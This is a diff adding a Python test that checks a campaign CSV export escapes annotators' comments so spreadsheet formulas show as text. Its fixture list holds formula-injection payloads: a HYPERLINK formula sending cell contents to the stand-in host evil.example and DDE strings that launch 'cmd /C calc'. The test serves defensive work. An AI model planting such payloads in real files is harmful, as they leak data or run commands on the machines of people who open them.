@@ -196,3 +196,29 @@ def test_figures_commit_with_the_judgement_and_stale_ones_are_recomputed_once(mt
         assert con.execute("SELECT count(*) FROM campaign_quality").fetchone()[0] == 2
     finally:
         con.close()
+
+
+FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
+            "-2+3+cmd|' /C calc'!A0")
+
+
+def test_campaign_csv_export_neutralises_formula_comments(mt, tmp_path, capsys):
+    """Annotators' comments are untrusted: `campaign export --format csv` writes them through the same neutraliser
+    as the pages' downloads (store.sheets), so a spreadsheet shows each as text."""
+    import csv
+
+    import pages._ui
+    import store.sheets
+
+    path, tokens = mt
+    for seq, text in enumerate(FORMULAS):
+        n = _n(path, "ann", seq)
+        svc.submit_judgement(path, tokens["ann"], seq, _full(n), {0: text})
+    out = tmp_path / "j.csv"
+    assert main(["campaign", "export", "--db", str(path), "--id", "mt-th", "--format", "csv", "--out", str(out)]) == 0
+    with open(out, newline="", encoding="utf-8") as f:
+        rows = list(csv.DictReader(f))
+    notes = sorted(r["note"] for r in rows if r["criterion"] == "comment")
+    assert notes == sorted("'" + t for t in FORMULAS)
+    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values() if v)
+    assert pages._ui.csv_bytes is store.sheets.csv_bytes and svc.write_csv is store.sheets.write_csv
